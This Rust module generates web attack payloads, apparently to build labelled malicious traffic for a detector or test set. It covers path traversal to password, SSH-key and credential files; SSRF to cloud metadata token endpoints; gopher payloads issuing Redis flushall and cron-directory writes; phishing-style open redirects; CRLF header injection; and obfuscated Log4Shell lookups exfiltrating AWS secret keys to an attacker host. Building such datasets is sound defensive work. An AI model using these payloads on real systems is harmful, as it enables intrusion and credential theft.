//! Grammars of the families that point the application somewhere it should not go: path
//! traversal to system files, server-side requests to internal hosts and cloud metadata, open
//! redirects to foreign sites, CRLF header injection, JNDI lookups (Log4Shell) and direct probes
//! for sensitive files (`/.git/config`, `/backup.sql`, admin exports).

use rand::Rng;

use super::{attacker_host, keep_prefix, Built, SlotContext};
use crate::draft::Draft;
use crate::normal::dress;
use crate::vocab::{self as v, chance, pick, Rng8};

// ---- path traversal ---------------------------------------------------------------------------

/// One `..` step in its many spellings; the bool marks Windows-style separators.
const TRAVERSAL_STEPS: &[(&str, bool)] = &[
    ("../", false),
    ("../", false),
    ("../", false),
    ("..\\", true),
    ("..\\", true),
    ("..%2f", false),
    ("%2e%2e/", false),
    ("%2e%2e%2f", false),
    ("..%5c", true),
    ("....//", false),
    ("..././", false),
    ("%252e%252e%252f", false),
    ("..%c0%af", false),
    ("%c0%ae%c0%ae/", false),
    ("..%255c", true),
    (".%2e/", false),
    ("%2e%2e%5c", true),
    ("..//", false),
    ("..;/", false),
    ("..%u2215", false),
];

const UNIX_TARGETS: &[&str] = &[
    "etc/passwd",
    "etc/passwd",
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "etc/issue",
    "proc/self/environ",
    "proc/self/cmdline",
    "proc/version",
    "proc/self/fd/2",
    "var/log/apache2/access.log",
    "var/log/nginx/error.log",
    "root/.ssh/id_rsa",
    "root/.bash_history",
    "var/www/html/config.php",
    "usr/local/etc/php.ini",
    "etc/mysql/my.cnf",
    "root/.aws/credentials",
    "opt/tomcat/conf/tomcat-users.xml",
    "app/.env",
    "etc/nginx/nginx.conf",
];

const WINDOWS_TARGETS: &[&str] = &[
    "windows/win.ini",
    "windows/win.ini",
    "boot.ini",
    "windows/system32/drivers/etc/hosts",
    "inetpub/wwwroot/web.config",
    "windows/repair/sam",
    "windows/system.ini",
    "Windows/Panther/Unattend.xml",
    "xampp/apache/conf/httpd.conf",
];

const WEBAPP_TARGETS: &[&str] = &[
    "WEB-INF/web.xml",
    "WEB-INF/web.xml",
    "WEB-INF/classes/application.properties",
    "META-INF/MANIFEST.MF",
    "WEB-INF/classes/hibernate.cfg.xml",
    "config/database.yml",
    ".env",
];

/// Path traversal and local file inclusion: `..` steps of varying depth and spelling to a
/// system or application file, sometimes with a null-byte or extension suffix, or an absolute
/// path / PHP wrapper with no traversal at all.
pub(crate) fn traversal(rng: &mut Rng8, slot: &SlotContext) -> String {
    if chance(rng, 0.14) {
        let target = *pick(rng, UNIX_TARGETS);
        return match rng.gen_range(0..7) {
            0 | 1 => format!("/{target}"),
            2 => format!("C:\\{}", pick(rng, WINDOWS_TARGETS).replace('/', "\\")),
            3 => format!("file:///{target}"),
            4 => format!(
                "php://filter/convert.base64-encode/resource={}",
                pick(
                    rng,
                    &[
                        "index.php",
                        "config.php",
                        "../config/app.php",
                        "/etc/passwd"
                    ]
                )
            ),
            5 => format!(
                "php://filter/read=string.rot13/resource={}",
                pick(rng, &["config.php", "db.php"])
            ),
            _ => format!("c:/{}", pick(rng, WINDOWS_TARGETS)),
        };
    }
    let (step, windows_sep) = *pick(rng, TRAVERSAL_STEPS);
    let family = rng.gen_range(0..10);
    let (target, depth) = match family {
        0..=5 => (pick(rng, UNIX_TARGETS).to_string(), rng.gen_range(2..=12)),
        6 | 7 => (
            pick(rng, WINDOWS_TARGETS).to_string(),
            rng.gen_range(2..=10),
        ),
        _ => (pick(rng, WEBAPP_TARGETS).to_string(), rng.gen_range(1..=5)),
    };
    let target = if windows_sep || (family == 6 && chance(rng, 0.4)) {
        target.replace('/', "\\")
    } else {
        target
    };
    let mut steps = String::new();
    for _ in 0..depth {
        // Now and then the spellings are mixed within one payload.
        let (s, _) = if chance(rng, 0.08) {
            *pick(rng, TRAVERSAL_STEPS)
        } else {
            (step, windows_sep)
        };
        steps.push_str(s);
    }
    let prefix = if slot.in_path {
        String::new()
    } else {
        match rng.gen_range(0..12) {
            0 => "/".to_string(),
            1 => "./".to_string(),
            2 => pick(
                rng,
                &["static/", "images/", "uploads/", "templates/", "docs/"],
            )
            .to_string(),
            3 => "/var/www/html/".to_string(),
            4 => keep_prefix(rng, slot, 1.0)
                .rsplit_once('/')
                .map(|(d, _)| format!("{d}/"))
                .unwrap_or_default(),
            _ => String::new(),
        }
    };
    let suffix = match rng.gen_range(0..14) {
        0 => "%00",
        1 => "%00.pdf",
        2 => "%00.jpg",
        3 => "%00.html",
        4 => "?",
        5 => ".",
        6 => "%20",
        _ => "",
    };
    format!("{prefix}{steps}{target}{suffix}")
}

// ---- SSRF -------------------------------------------------------------------------------------

fn internal_host(rng: &mut Rng8) -> String {
    match rng.gen_range(0..26) {
        0..=3 => "127.0.0.1".to_string(),
        4 | 5 => "localhost".to_string(),
        6 => "0.0.0.0".to_string(),
        7 => "0".to_string(),
        8 => "[::1]".to_string(),
        9 => "127.1".to_string(),
        10 => "2130706433".to_string(),
        11 => "0x7f000001".to_string(),
        12 => "0177.0.0.1".to_string(),
        13 => "127.0.0.1.nip.io".to_string(),
        14 => "localtest.me".to_string(),
        15..=17 => "169.254.169.254".to_string(),
        18 => "metadata.google.internal".to_string(),
        19 => "100.100.100.200".to_string(),
        20 => format!(
            "10.{}.{}.{}",
            rng.gen_range(0..256),
            rng.gen_range(0..256),
            rng.gen_range(1..255)
        ),
        21 => format!(
            "192.168.{}.{}",
            rng.gen_range(0..256),
            rng.gen_range(1..255)
        ),
        22 => format!(
            "172.{}.{}.{}",
            rng.gen_range(16..32),
            rng.gen_range(0..256),
            rng.gen_range(1..255)
        ),
        23 => pick(
            rng,
            &[
                "internal-admin.local",
                "kubernetes.default.svc",
                "consul.service.consul",
                "redis",
            ],
        )
        .to_string(),
        24 => "0x7f.0x0.0x0.0x1".to_string(),
        _ => "①②⑦.⓪.⓪.①".to_string(),
    }
}

fn internal_path(rng: &mut Rng8, host: &str) -> String {
    if host.contains("169.254") || host.contains("metadata") || host.starts_with("100.100") {
        return pick(
            rng,
            &[
                "/latest/meta-data/",
                "/latest/meta-data/iam/security-credentials/",
                "/latest/user-data",
                "/latest/api/token",
                "/computeMetadata/v1/instance/service-accounts/default/token",
                "/metadata/instance?api-version=2021-02-01",
                "/openstack/latest/meta_data.json",
                "/latest/meta-data/hostname",
            ],
        )
        .to_string();
    }
    pick(
        rng,
        &[
            "",
            "/",
            "/",
            "/admin",
            "/server-status",
            "/actuator/env",
            "/_cat/indices",
            "/v1.24/containers/json",
            "/api/v1/namespaces/kube-system/secrets",
            "/v1/kv/?recurse",
            "/_all_dbs",
            "/stats",
            "/console",
            "/manager/html",
            "/debug/vars",
            "/metrics",
        ],
    )
    .to_string()
}

/// Server-side request forgery: loopback and private addresses in their many spellings, cloud
/// metadata endpoints, internal service ports, non-HTTP schemes and allow-list bypass tricks.
pub(crate) fn ssrf(rng: &mut Rng8, _slot: &SlotContext) -> String {
    let host = internal_host(rng);
    let port = if chance(rng, 0.4) && !host.contains("169.254") {
        format!(
            ":{}",
            pick(
                rng,
                &[
                    22, 25, 80, 443, 2375, 2379, 3306, 5432, 5984, 6379, 8080, 8500, 9200, 11211,
                    10250, 8000, 9000, 5000
                ]
            )
        )
    } else {
        String::new()
    };
    let path = internal_path(rng, &host);
    let allowed = *pick(
        rng,
        &[
            "hooks.example.io",
            "cdn.example.com",
            "news.example.com",
            "bank.example.com",
        ],
    );
    match rng.gen_range(0..20) {
        0..=8 => format!("http://{host}{port}{path}"),
        9 => format!("https://{host}{port}{path}"),
        10 => {
            let command = *pick(
                rng,
                &[
                    "_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
                    "_INFO%0D%0A",
                    "_CONFIG%20SET%20dir%20/var/spool/cron/%0D%0A",
                    "_stats%0D%0Aquit%0D%0A",
                ],
            );
            format!(
                "gopher://{host}:{}/{command}",
                pick(rng, &[6379, 11211, 25, 3306])
            )
        }
        11 => format!("gopher://{host}:25/_HELO%20{}", attacker_host(rng)),
        12 => pick(
            rng,
            &[
                "file:///etc/passwd",
                "file:///c:/windows/win.ini",
                "file://localhost/etc/shadow",
                "file:///proc/self/environ",
                "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
            ],
        )
        .to_string(),
        13 => format!(
            "dict://{host}:{}/{}",
            pick(rng, &[6379, 11211, 22]),
            pick(rng, &["info", "stats", "x"])
        ),
        14 => format!("http://{allowed}@{host}{port}{path}"),
        15 => format!("http://{host}{port}#@{allowed}/"),
        16 => format!("http://{allowed}.{host}.nip.io{path}"),
        17 => format!(
            "{}://{host}{port}/",
            pick(rng, &["ftp", "ldap", "tftp", "netdoc", "jar:http"])
        ),
        18 => format!("http://{host}:80\\@{allowed}/"),
        _ => format!("http://{host}{port}{path}%23{}", v::hex(rng, 4)),
    }
}

// ---- open redirect ----------------------------------------------------------------------------

fn foreign_site(rng: &mut Rng8) -> String {
    match rng.gen_range(0..6) {
        0 => format!(
            "bank-example.com.{}",
            pick(rng, &["ru", "xyz", "top", "site"])
        ),
        1 => "bank.examp1e.com".to_string(),
        2 => format!("secure-bank-login.{}", pick(rng, &["com", "net", "info"])),
        _ => attacker_host(rng),
    }
}

/// Open redirect: absolute, scheme-relative and backslash/encoded spellings of a foreign site.
pub(crate) fn open_redirect(rng: &mut Rng8, _slot: &SlotContext) -> String {
    let evil = foreign_site(rng);
    let own = *pick(
        rng,
        &["bank.example.com", "shop.example.com", "blog.example.org"],
    );
    let path = if chance(rng, 0.3) {
        format!(
            "/{}",
            pick(rng, &["login", "account", "verify", "x", "session/renew"])
        )
    } else {
        String::new()
    };
    match rng.gen_range(0..22) {
        0..=2 => format!("//{evil}{path}"),
        3..=5 => format!("https://{evil}{path}"),
        6 => format!("http://{evil}{path}"),
        7 => format!("///{evil}{path}"),
        8 => format!("////{evil}/%2e%2e"),
        9 => format!("/\\{evil}{path}"),
        10 => format!("\\\\{evil}"),
        11 => format!("/%09/{evil}"),
        12 => format!("/%5c{evil}"),
        13 => format!("https:{evil}"),
        14 => format!("//{evil}%2f%2e%2e"),
        15 => format!("https://{own}.{evil}{path}"),
        16 => format!("https://{own}@{evil}{path}"),
        17 => format!("//{evil}?{own}"),
        18 => format!("https://{evil}#{own}"),
        19 => format!("/%2f%2f{evil}"),
        20 => format!("\\/\\/{evil}{path}"),
        _ => format!("%2f%2f{evil}"),
    }
}

// ---- CRLF injection ---------------------------------------------------------------------------

/// CRLF / HTTP response splitting: an encoded line break followed by injected headers or a
/// whole forged response.
pub(crate) fn crlf(rng: &mut Rng8, slot: &SlotContext) -> String {
    let nl = *pick(
        rng,
        &[
            "%0d%0a",
            "%0d%0a",
            "%0D%0A",
            "%0a",
            "%0d",
            "%E5%98%8A%E5%98%8D",
            "%0d%0a%09",
            "%u000d%u000a",
            "%23%0d%0a",
            "%3f%0d%0a",
            "%0d%0a%20",
            "\\r\\n",
        ],
    );
    let evil = attacker_host(rng);
    let len = rng.gen_range(8..25);
    let hex = v::hex(rng, len);
    let sp = if chance(rng, 0.5) { " " } else { "" };
    let injected = match rng.gen_range(0..11) {
        0..=2 => format!("Set-Cookie:{sp}{}={hex}", pick(rng, &["session", "sessionid", "crlf", "admin", "JSESSIONID"])),
        3 => format!("Set-Cookie:{sp}session={hex};{sp}Path=/;{sp}HttpOnly"),
        4 => format!("Location:{sp}https://{evil}/"),
        5 => format!("X-XSS-Protection:{sp}0"),
        6 => format!("Content-Length:{sp}0{nl}{nl}HTTP/1.1 200 OK{nl}Content-Type:{sp}text/html{nl}{nl}<h1>{hex}</h1>"),
        7 => format!("Access-Control-Allow-Origin:{sp}*"),
        8 => format!("Refresh:{sp}0;{sp}url=https://{evil}/"),
        9 => format!("X-Injected:{sp}{hex}"),
        _ => format!("Link:{sp}<https://{evil}/x.css>;{sp}rel=stylesheet"),
    };
    let prefix = keep_prefix(rng, slot, 0.6);
    format!("{prefix}{nl}{injected}")
}

// ---- JNDI (Log4Shell) -------------------------------------------------------------------------

fn obfuscated_letters(rng: &mut Rng8, word: &str, obfuscate: bool) -> String {
    if !obfuscate {
        return word.to_string();
    }
    let mut out = String::new();
    for c in word.chars() {
        if !chance(rng, 0.55) {
            out.push(c);
            continue;
        }
        let form = match rng.gen_range(0..7) {
            0 => format!("${{lower:{c}}}"),
            1 => format!("${{upper:{c}}}"),
            2 | 3 => format!("${{::-{c}}}"),
            4 => format!("${{env:NaN:-{c}}}"),
            5 => format!("${{date:'{c}'}}"),
            _ => format!(
                "${{{}:{}:-{c}}}",
                pick(rng, &["env", "sys"]),
                pick(rng, &["BARFOO", "x", "ENV_NAME", "zz"])
            ),
        };
        out.push_str(&form);
    }
    out
}

/// JNDI lookups (Log4Shell), plain and with `${lower:..}` / `${::-..}` letter obfuscation.
pub(crate) fn jndi(rng: &mut Rng8, slot: &SlotContext) -> String {
    let proto = *pick(
        rng,
        &[
            "ldap", "ldap", "ldap", "ldaps", "rmi", "rmi", "dns", "iiop", "corba", "nds", "http",
            "nis",
        ],
    );
    let obfuscate = chance(rng, 0.35);
    let jndi = obfuscated_letters(rng, "jndi", obfuscate);
    let obfuscate_proto = obfuscate && chance(rng, 0.5);
    let proto_text = obfuscated_letters(rng, proto, obfuscate_proto);
    let colon = if obfuscate && chance(rng, 0.3) {
        "${::-:}"
    } else {
        ":"
    };
    let host = attacker_host(rng);
    let host = match rng.gen_range(0..8) {
        0 => format!("${{sys:java.version}}.{host}"),
        1 => format!(
            "${{env:{}}}.{host}",
            pick(
                rng,
                &[
                    "USER",
                    "HOSTNAME",
                    "AWS_SECRET_ACCESS_KEY",
                    "AWS_ACCESS_KEY_ID"
                ]
            )
        ),
        2 => format!("${{hostName}}.{host}"),
        _ => host,
    };
    let port = if chance(rng, 0.5) {
        format!(":{}", pick(rng, &[1389, 1099, 389, 53, 8080, 443, 636]))
    } else {
        String::new()
    };
    let path = match rng.gen_range(0..5) {
        0 => "a".to_string(),
        1 => "Exploit".to_string(),
        2 => format!("Basic/Command/Base64/{}", v::b64_url(rng, 9)),
        _ => {
            let len = rng.gen_range(4..12);
            v::hex(rng, len)
        }
    };
    let lookup = format!("${{{jndi}{colon}{proto_text}{colon}//{host}{port}/{path}}}");
    let prefix = keep_prefix(rng, slot, 0.25);
    format!("{prefix}{lookup}")
}

// ---- sensitive resources ----------------------------------------------------------------------

pub(crate) const SENSITIVE_FILES: &[&str] = &[
    ".git/config",
    ".git/HEAD",
    ".git/index",
    ".env",
    ".env.local",
    ".env.production",
    "backup.sql",
    "db.sql",
    "dump.sql.gz",
    "database.sql.zip",
    "wp-config.php.bak",
    "wp-config.php~",
    "config.php.old",
    ".config.inc.php.swp",
    ".htpasswd",
    ".htaccess",
    "server-status",
    "server-info",
    "phpinfo.php",
    "info.php",
    ".DS_Store",
    ".svn/entries",
    ".svn/wc.db",
    "etc/passwd",
    "actuator/env",
    "actuator/heapdump",
    "actuator/mappings",
    ".aws/credentials",
    "id_rsa",
    ".ssh/id_rsa",
    "web.config",
    "WEB-INF/web.xml",
    "console",
    "debug/pprof/",
    ".vscode/sftp.json",
    "config.json",
    "docker-compose.yml",
    ".npmrc",
    ".bash_history",
    "phpmyadmin/",
    "adminer.php",
    "elmah.axd",
    "trace.axd",
    "storage/logs/laravel.log",
    "_profiler/phpinfo",
    "jmx-console/",
    "manager/html",
];

const SENSITIVE_DIRS: &[&str] = &[
    "", "", "", "", "old/", "backup/", "static/", "app/", "v1/", "api/", "admin/", "_old/",
    "public/", "www/",
];

/// Direct requests for files and endpoints that must never be served: VCS metadata, secrets,
/// backups, server status pages and admin data exports.
pub(crate) fn sensitive_resource(rng: &mut Rng8) -> Built {
    let host = *pick(
        rng,
        &[
            "bank.example.com",
            "shop.example.com",
            "blog.example.org",
            "api.example.io",
        ],
    );
    let method = *pick(
        rng,
        &[
            "GET", "GET", "GET", "GET", "GET", "GET", "GET", "GET", "HEAD", "POST",
        ],
    );
    let (y, m, d) = v::date(rng);
    let site = host.split('.').next().unwrap_or("site");
    let (path, query) = match rng.gen_range(0..20) {
        0..=2 => {
            let table = *pick(
                rng,
                &[
                    "credit_cards",
                    "users",
                    "accounts",
                    "transactions",
                    "customers",
                    "payments",
                    "sessions",
                ],
            );
            let format = *pick(rng, &["csv", "json", "sql", "xlsx"]);
            (
                "/api/admin/export".to_string(),
                Some(format!("table={table}&format={format}")),
            )
        }
        3 => (
            format!(
                "/{}",
                pick(
                    rng,
                    &[
                        format!("backup/{site}_{y}{m:02}{d:02}.zip"),
                        format!("{site}.tar.gz"),
                        format!("site_backup_{y}-{m:02}-{d:02}.tgz"),
                        format!("db_backup_{y}{m:02}{d:02}.sql"),
                    ]
                )
            ),
            None,
        ),
        4 => ("/admin/db/dump".to_string(), Some("all=1".to_string())),
        _ => {
            let dir = *pick(rng, SENSITIVE_DIRS);
            let file = *pick(rng, SENSITIVE_FILES);
            let backup = if file.ends_with(".php") && chance(rng, 0.3) {
                *pick(rng, &[".bak", "~", ".old", ".orig", ".swp", ".save"])
            } else {
                ""
            };
            (format!("/{dir}{file}{backup}"), None)
        }
    };
    let mut draft = Draft::new(method, host, &path);
    if let Some(q) = &query {
        for pair in q.split('&') {
            let (k, val) = pair.split_once('=').unwrap_or((pair, ""));
            draft = draft.query_fixed(k, val);
        }
    }
    let draft = dress(rng, draft);
    let payload = match query {
        Some(q) => format!("{path}?{q}"),
        None => path,
    };
    Built { draft, payload }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::draft::SlotKind;
    use rand::SeedableRng;

    fn slot(kind: SlotKind, original: &str) -> SlotContext {
        SlotContext {
            kind,
            original: original.into(),
            name: "x".into(),
            in_path: false,
        }
    }

    #[test]
    fn traversal_reaches_a_known_target() {
        let mut rng = Rng8::seed_from_u64(41);
        let mut seen = std::collections::HashSet::new();
        for _ in 0..2000 {
            let p = traversal(&mut rng, &slot(SlotKind::File, "docs/statement.pdf"));
            let norm = p.replace('\\', "/").to_lowercase();
            assert!(
                [
                    "passwd",
                    "shadow",
                    "win.ini",
                    "boot.ini",
                    "web.xml",
                    "environ",
                    "hosts",
                    ".env",
                    "php://",
                    "id_rsa",
                    ".ini",
                    ".log",
                    ".conf",
                    ".cnf",
                    ".xml",
                    ".mf",
                    ".yml",
                    "sam",
                    "config",
                    "credentials",
                    "history",
                    "cmdline",
                    "version",
                    "issue",
                    "group",
                    "fd/2",
                    "httpd",
                    ".properties"
                ]
                .iter()
                .any(|t| norm.contains(t)),
                "{p}"
            );
            seen.insert(p);
        }
        assert!(seen.len() > 1200, "{} distinct", seen.len());
    }

    #[test]
    fn jndi_lookups_are_well_formed() {
        let mut rng = Rng8::seed_from_u64(42);
        for _ in 0..500 {
            let p = jndi(&mut rng, &slot(SlotKind::Header, "Mozilla/5.0"));
            assert!(p.starts_with("${"), "{p}");
            assert_eq!(p.matches('{').count(), p.matches('}').count(), "{p}");
        }
    }

    #[test]
    fn redirects_and_ssrf_point_away_from_the_site() {
        let mut rng = Rng8::seed_from_u64(43);
        for _ in 0..500 {
            let r = open_redirect(&mut rng, &slot(SlotKind::Redirect, "/account"));
            assert!(!r.starts_with("/account"), "{r}");
            let s = ssrf(
                &mut rng,
                &slot(SlotKind::Url, "https://cdn.example.com/a.png"),
            );
            assert!(s.contains("://"), "{s}");
        }
    }

    #[test]
    fn sensitive_probes_replace_the_path() {
        let mut rng = Rng8::seed_from_u64(44);
        for _ in 0..200 {
            let built = sensitive_resource(&mut rng);
            let r = built.draft.render();
            assert_eq!(r.url, built.payload, "payload is the probed path");
        }
    }
}
